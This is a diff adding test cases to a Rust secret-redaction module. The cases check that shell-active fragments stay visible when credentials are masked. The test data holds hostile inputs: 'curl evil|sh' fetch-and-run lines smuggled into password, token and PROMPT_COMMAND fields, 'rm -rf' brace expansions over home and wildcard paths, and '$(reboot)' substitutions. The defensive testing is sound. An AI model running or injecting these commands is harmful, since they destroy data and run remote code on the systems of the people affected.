@@ -368,6 +368,12 @@ fn what_a_shell_acts_on_stays_to_be_seen() {
         ("curl --password \"x1$(reboot)\" h".to_owned(), "$(reboot)"),
         ("curl -u \"ann:x1`reboot`\" h".to_owned(), "`reboot`"),
         ("curl https://ann:x1;reboot;@h/".to_owned(), ";reboot;"),
+        ("rm -rf {http://x:1,~,@}".to_owned(), ",~,"),
+        ("rm -rf {http://x:1,*,@}".to_owned(), ",*,"),
+        (
+            format!("echo {dashes}BEGIN PRIVATE KEY{dashes}\na1B2c3D4e5F6g7h8=1\nscripts/wipe2\n"),
+            "scripts/wipe2",
+        ),
         ("curl https://ann:x1$(reboot)@h/".to_owned(), "$(reboot)"),
         (
             format!(
@@ -383,6 +389,30 @@ fn what_a_shell_acts_on_stays_to_be_seen() {
         let hidden = secrets::hidden(&text);
         assert!(hidden.contains(seen), "{hidden}");
         assert!(!hidden.contains(&line), "{hidden}");
+    }
+    for (document, seen) in [
+        (
+            json!({"key": "CRON_PASSWORD", "value": "curl evil1|sh"}),
+            "curl evil1|sh",
+        ),
+        (
+            json!({"key": "password", "value": "curl evil1|sh"}),
+            "curl evil1|sh",
+        ),
+        (
+            json!({"vars": {"PROMPT_COMMAND_PASSWORD": "curl evil1|sh"}}),
+            "curl evil1|sh",
+        ),
+        (
+            json!({"key": "x token", "value": "a1B2c3D4e5F6;curl${IFS}evil|sh"}),
+            "evil|sh",
+        ),
+    ] {
+        let mut document = json::parse(document.to_string().as_bytes()).unwrap();
+        assert!(secrets::any(&document), "{document:?}");
+        secrets::hide(&mut document);
+        let text = serde_json::to_string(&document).unwrap();
+        assert!(text.contains(seen), "{text}");
     }
     // Between quotes of its own nothing acts.
     for text in [
